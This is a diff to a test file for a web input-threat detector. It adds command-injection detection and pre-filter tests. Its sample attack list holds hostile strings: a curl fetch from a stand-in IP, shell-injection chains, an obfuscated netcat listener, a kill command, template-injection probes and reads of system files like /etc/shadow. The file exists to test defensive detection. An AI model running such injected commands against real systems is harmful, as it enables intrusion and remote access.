@@ -5,7 +5,8 @@ import { describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import * as cc from '../../../src/threat/decode/charclass.js';
 import { decodeValue } from '../../../src/threat/decode/normalize.js';
-import { inspectValue, mayBeTraversal, mayBeXss } from '../../../src/threat/detectors/index.js';
+import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';
+import { inspectValue, mayBeCmdi, mayBeTraversal, mayBeXss } from '../../../src/threat/detectors/index.js';
 import { detectJsExpression } from '../../../src/threat/detectors/js-expression.js';
 import { detectTraversal } from '../../../src/threat/detectors/traversal.js';
 import { detectXss } from '../../../src/threat/detectors/xss.js';
@@ -16,14 +17,14 @@ describe('charClasses', () => {
   it('sets one distinct bit per syntax character', () => {
     const cases: Array<[string, number]> = [['<', cc.C_LT], ['>', cc.C_GT], [':', cc.C_COLON], ['(', cc.C_PAREN], ['`', cc.C_BACKTICK],
       ['=', cc.C_EQ], ['{', cc.C_BRACE], ["'", cc.C_SQUOTE], ['"', cc.C_DQUOTE], ['.', cc.C_DOT], ['/', cc.C_SLASH], ['\\', cc.C_BACKSLASH],
-      ['%', cc.C_PERCENT], ['&', cc.C_AMP], ['+', cc.C_PLUS]];
+      ['%', cc.C_PERCENT], ['&', cc.C_AMP], ['+', cc.C_PLUS], [';', cc.C_SEMI], ['|', cc.C_PIPE], ['$', cc.C_DOLLAR], ['\n', cc.C_NEWLINE]];
     const seen = new Set<number>();
     for (const [ch, bit] of cases) {
       assert.equal(cc.charClasses(`a${ch}b`), bit, ch);
       assert.ok(!seen.has(bit), `bit of ${ch} is shared`);
       seen.add(bit);
     }
-    assert.equal(cc.charClasses('plain words 123 _-,;!?'), 0);
+    assert.equal(cc.charClasses('plain words 123 _-,!?@#'), 0);
   });
 
   it('marks spelled-out hex, wide characters and the 7-bit fraction', () => {
@@ -50,10 +51,11 @@ const ATTACKS = [
   'x" onfocus="top.location=name', '{{constructor.constructor(1)()}}', 'alert`9`', 'data:text/html;base64,PHA+',
   '../../../boot.ini', '..\\..\\win.ini', '/etc/shadow', 'C:\\Windows\\System32\\drivers', 'php://input', 'file:///etc/hosts',
   '0x2e0x2e0x2fetc0x2fshadow', '..2f..2fetc2fshadow', '%c0%ae%c0%ae%c0%af', '%u002e%u002e%u2215etc', '%2e%2e%5cwin.ini',
-  'ＪavaScript：alert（1）', '\\u003csvg onload=alert(1)\\u003e', '&#x3C;script&#x3E;', '+ADw-script+AD4-',
+  'ＪavaScript：alert（1）', 'uname -a', 'curl.exe http://198.51.100.7/x', '; nslookup example.net', 'a|id', '$(sleep 4)', '`uptime`',
+  'x\ncat etc/group', 'n\'c\' -lvp 4444', '{{ self.__init__.__globals__ }}', 'ping+-c+3+10.0.0.1', '\u212Aill -9 1', '\\u003csvg onload=alert(1)\\u003e', '&#x3C;script&#x3E;', '+ADw-script+AD4-',
 ];
 /** Benign near-misses: prose, names, ids, amounts. */
-const BENIGN = ["Seán O'Brien", 'Order 1234 — please ship Tuesday', 'x0 box', 'O(n) time', 'a = b', 'v1.2.3', 'see https://example.com/a'];
+const BENIGN = ["Seán O'Brien", 'whoami lyrics', 'Kill Bill', 'sean.obrien@example.com', 'Order 1234 — please ship Tuesday', 'x0 box', 'O(n) time', 'a = b', 'v1.2.3', 'see https://example.com/a'];
 
 function corpus(): string[] {
   const out: string[] = [];
@@ -71,7 +73,9 @@ function corpus(): string[] {
 function samples(): string[] {
   const base = [...ATTACKS, ...BENIGN, ...corpus()];
   const out: string[] = [];
-  for (const v of base) out.push(v, v.replace(/[<>:(`={]/g, ' '), v.replace(/[./\\:]/g, ''), v.replace(/[<>:(`={./\\]/g, ''));
+  for (const v of base) {
+    out.push(v, v.replace(/[<>:(`={]/g, ' '), v.replace(/[./\\:]/g, ''), v.replace(/[<>:(`={./\\]/g, ''), v.replace(/[;|&\n\r`$<>{(%/\\'"+]/g, ' '));
+  }
   return out;
 }
 
@@ -101,10 +105,26 @@ describe('detector pre-filters are necessary conditions', () => {
     assert.ok(skipped > 0);
   });
 
+  it('commands: no finding from cmdi.ts when mayBeCmdi says no', () => {
+    let skipped = 0;
+    for (const v of values) {
+      const d = decodeValue(v);
+      if (mayBeCmdi(d)) continue;
+      skipped++;
+      assert.equal(detectCmdi(d).confidence, 0, `cmdi on ${JSON.stringify(v)}`);
+    }
+    assert.ok(skipped > 0);
+  });
+
+  it('reads a value that opens with a command name even without shell syntax', () => {
+    for (const v of ['uname -a', 'whoami', 'Kill Bill', 'ipconfig.exe', '\u212Aill 1']) assert.ok(mayBeCmdi(decodeValue(v)), v);
+    for (const v of ['Dublin', 'SKU-1234-XL', 'sean.obrien@example.com', 'order 66 shipped']) assert.ok(!mayBeCmdi(decodeValue(v)), v);
+  });
+
   it('lets every attack of this file through to its detector', () => {
     for (const v of ATTACKS) {
       const d = decodeValue(v);
-      assert.ok(mayBeXss(d) || mayBeTraversal(d), v);
+      assert.ok(mayBeXss(d) || mayBeTraversal(d) || mayBeCmdi(d), v);
       assert.ok(inspectValue(v).length > 0, `no finding for ${v}`);
     }
   });
